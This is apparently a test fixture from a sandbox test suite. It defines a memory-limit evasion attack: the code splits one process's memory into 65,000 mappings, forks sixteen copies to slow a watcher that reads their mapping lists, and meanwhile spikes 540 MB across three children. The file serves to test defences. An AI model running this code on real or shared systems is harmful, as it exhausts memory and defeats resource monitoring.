"""Cuts the memory of sixteen processes into 65,000 mappings each, and takes 540 MB while the watch reads the lists of them"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import ctypes, os, time
reading, writing = os.pipe()
spike = []
for _ in range(3):
    spike.append(os.fork())
    if not spike[-1]:
        os.read(reading, 1)
        held = bytearray(180_000_000)
        held[::4096] = b"x" * len(held[::4096])
        time.sleep(0.4)
        os._exit(0)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
start = libc.mmap(None, 65_000 * 4096, 0, 0x4022, -1, 0)
for page in range(0, 63_000, 2):
    libc.mprotect(start + page * 4096, 4096, 1)
taken = []
for _ in range(16):
    taken.append(os.fork())
    if not taken[-1]:
        time.sleep(30)
        os._exit(0)
""",
    q3="""
time.sleep(0.3)
os.write(writing, b"xxx")
done = [os.waitstatus_to_exitcode(os.waitpid(process, 0)[1]) for process in spike]
for process in taken:
    os.kill(process, 9)
reason = "B" if done == [0, 0, 0] else "not done"
""",
    proof="q3",
    is_bomb=True,
)
